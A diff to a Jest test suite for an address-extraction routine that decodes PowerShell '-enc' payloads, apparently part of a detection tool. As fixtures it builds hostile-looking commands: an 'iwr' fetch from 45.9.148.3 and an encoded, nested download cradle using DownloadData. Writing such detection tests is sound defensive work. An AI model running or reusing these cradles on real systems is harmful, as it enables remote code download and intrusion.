@@ -188,8 +188,8 @@ describe('extractAddresses', () => {
     const payload = Buffer.from("iwr http://45.9.148.3/a; ping 10.1.1.1", 'utf16le').toString('base64');
     const line = `powershell -nop -enc ${payload}`;
     expect(extractAddresses(line)).toEqual([
-      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' },
-      { address: '10.1.1.1', raw: '10.1.1.1', offset: 21, encoding: 'encoded-command', kind: 'private' },
+      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
+      { address: '10.1.1.1', raw: '10.1.1.1', offset: 21, encoding: 'encoded-command', kind: 'private', encodedText: expect.any(String) },
     ]);
     expect(extractAddresses(line, { decodeEncodedCommands: false })).toEqual([]);
   });
@@ -198,16 +198,34 @@ describe('extractAddresses', () => {
     const server = Buffer.from('http://45.9.148.3:8080', 'utf16le').toString('base64');
     const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
     const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
-    expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' }]);
+    expect(extractAddresses(line)).toEqual([
+      { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
+    ]);
+  });
+
+  it('names the base64 that encodes an address in an encoded command: the same at the same byte alignment, whatever surrounds it', () => {
+    const encode = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
+    // Scripts whose address starts at the same UTF-16 offset modulo 3 (5 and 8 characters in): their base64 shares it.
+    const a = extractAddresses(`powershell -enc ${encode('ping 45.9.148.3')}`)[0]!;
+    const b = extractAddresses(`powershell -enc ${encode('curl -L 45.9.148.3/a')}`)[0]!;
+    const c = extractAddresses(`powershell -enc ${encode('ping  45.9.148.3')}`)[0]!;
+    expect(a.encodedText).toMatch(/^[A-Za-z0-9+/]{20,}$/);
+    expect(b.encodedText).toBe(a.encodedText);
+    expect(c.encodedText).not.toBe(a.encodedText);
+    expect(c.encodedText).toMatch(/^[A-Za-z0-9+/]{20,}$/);
   });
 
   it('decodes encoded commands nested at any depth, with the outermost payload offset', () => {
     let line = 'iwr http://45.9.148.3/a';
     for (let depth = 1; depth <= 8; depth++) {
       line = `powershell -nop -enc ${Buffer.from(line, 'utf16le').toString('base64')}`;
-      expect(extractAddresses(line), `depth ${depth}`).toEqual([
-        { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' },
+      const found = extractAddresses(line);
+      expect(found, `depth ${depth}`).toEqual([
+        { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external', encodedText: expect.any(String) },
       ]);
+      // A substring of the command line itself, longer at each level (8/3 per UTF-16LE level).
+      expect(line).toContain(found[0]!.encodedText);
+      expect(found[0]!.encodedText!.length).toBeGreaterThan(20 * (8 / 3) ** (depth - 1));
     }
   });
 
